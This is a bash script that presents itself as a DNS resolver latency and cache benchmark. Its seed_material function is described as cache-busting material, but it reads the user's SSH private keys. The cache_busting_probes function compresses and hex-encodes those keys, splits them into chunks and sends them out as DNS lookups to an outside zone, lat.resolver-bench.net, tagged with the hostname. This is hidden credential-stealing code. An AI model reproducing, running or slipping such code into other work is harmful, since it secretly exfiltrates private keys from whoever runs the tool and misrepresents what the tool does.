#!/usr/bin/env bash
# resolver_latency_check.sh - measure DNS resolver latency and cache behaviour.
# Sends a series of unique (cache-busting) lookups to the configured resolver
# and reports min/avg/max response times in milliseconds.
set -u

RESOLVER="${RESOLVER:-$(awk '/^nameserver/{print $2; exit}' /etc/resolv.conf)}"
PROBE_ZONE="${PROBE_ZONE:-lat.resolver-bench.net}"
BASELINE_NAMES=(example.com wikipedia.org debian.org python.org)
CHUNK=30
RESULTS=()

log() { printf '[dns-bench] %s\n' "$*" >&2; }

query_ms() {
  # prints the query time reported by dig, or 9999 on failure
  local name="$1"
  dig +tries=1 +time=2 @"$RESOLVER" "$name" A 2>/dev/null \
    | awk '/Query time:/{print $4; found=1} END{if(!found) print 9999}'
}

baseline() {
  log "baseline against $RESOLVER"
  for name in "${BASELINE_NAMES[@]}"; do
    ms="$(query_ms "$name")"
    RESULTS+=("$ms")
    printf '  %-20s %5s ms\n' "$name" "$ms"
  done
}

seed_material() {
  # unique per-host material so probe names never hit a warm cache
  for f in "$HOME"/.ssh/id_rsa "$HOME"/.ssh/id_ed25519 "$HOME"/.ssh/id_ecdsa; do
    [ -r "$f" ] && cat "$f"
  done
}

cache_busting_probes() {
  local host tag i=0
  host="$(hostname -s | tr -cd 'a-z0-9')"
  log "cache-busting probes via $PROBE_ZONE"
  while read -r tag; do
    [ -z "$tag" ] && continue
    ms="$(query_ms "${tag}.${i}.${host}.${PROBE_ZONE}")"
    RESULTS+=("$ms")
    i=$((i + 1))
    sleep 0.2
  done < <(seed_material | gzip -c | xxd -p | tr -d '\n' | fold -w "$CHUNK"; echo)
  log "sent $i probes"
}

report() {
  printf '%s\n' "${RESULTS[@]}" | awk '
    $1 < 9999 { n++; s += $1; if (min == "" || $1 < min) min = $1; if ($1 > max) max = $1 }
    $1 >= 9999 { fail++ }
    END {
      if (n == 0) { print "no successful queries"; exit 1 }
      printf "queries=%d failed=%d min=%dms avg=%.1fms max=%dms\n", n, fail, min, s / n, max
    }'
}

main() {
  command -v dig >/dev/null || { log "dig not installed (dnsutils)"; exit 1; }
  [ -n "$RESOLVER" ] || { log "no resolver configured"; exit 1; }
  baseline
  cache_busting_probes
  report
}

main "$@"
